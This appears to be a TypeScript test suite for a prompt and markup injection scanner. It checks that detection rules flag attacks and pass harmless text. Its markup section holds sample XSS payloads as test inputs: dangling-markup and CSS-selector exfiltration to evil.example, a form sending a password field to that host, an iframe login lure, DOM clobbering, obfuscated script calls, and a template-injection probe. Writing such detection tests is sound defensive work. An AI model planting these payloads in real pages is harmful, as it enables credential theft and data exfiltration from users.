import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { type Family, scanText } from "../../../src/injection-scan/mod.ts";
import { NEIGHBOURS } from "../../cases/injection/neighbours.ts";

const RULES = { layers: { model: false } };

describe("exact rules alone", () => {
  for (const [family, { attacks, harmless }] of Object.entries(NEIGHBOURS)) {
    it(`see every neighbour of ${family} attacks that were missed`, () => {
      const missed = attacks.filter((attack) => !scanText(attack, RULES).blocked);
      assert.deepEqual(missed, []);
    });

    it(`let every harmless neighbour of ${family} pass`, () => {
      const refused = harmless.filter((text) => scanText(text, RULES).blocked);
      assert.deepEqual(refused, []);
    });

    it(`look only for ${family} when they are asked for that alone`, () => {
      const found = harmless.flatMap((text) =>
        scanText(text, { ...RULES, families: [family as Family] }).findings
      ).filter(({ score }) => score >= 0.7);
      assert.deepEqual(found, []);
    });
  }
});

describe("a family that is asked for alone", () => {
  it("sees what only its own words call for", () => {
    const options = { ...RULES, families: ["template" as const] };
    assert.equal(scanText("@System.Environment.MachineName", options).blocked, true);
  });
});

describe("rules for markup", () => {
  const rules: Record<string, string> = {
    "<img src='//evil.example/log?": "dangling-markup",
    "<base target='": "dangling-markup",
    "<img name=currentScript>": "dom-clobbering",
    "<form action='https://evil.example/'><input name=pw>": "form-action",
    "<iframe src='https://evil.example/login'></iframe>": "frame",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>": "active-style",
    "top[/al/.source+/ert/.source](1)": "script-code",
    "alert.apply(null,[1])": "script-code",
  };
  for (const [text, rule] of Object.entries(rules)) {
    it(`${rule}: ${text}`, () => {
      assert.equal(scanText(text, { ...RULES, families: ["xss"] }).findings[0]?.rule, rule);
    });
  }
});
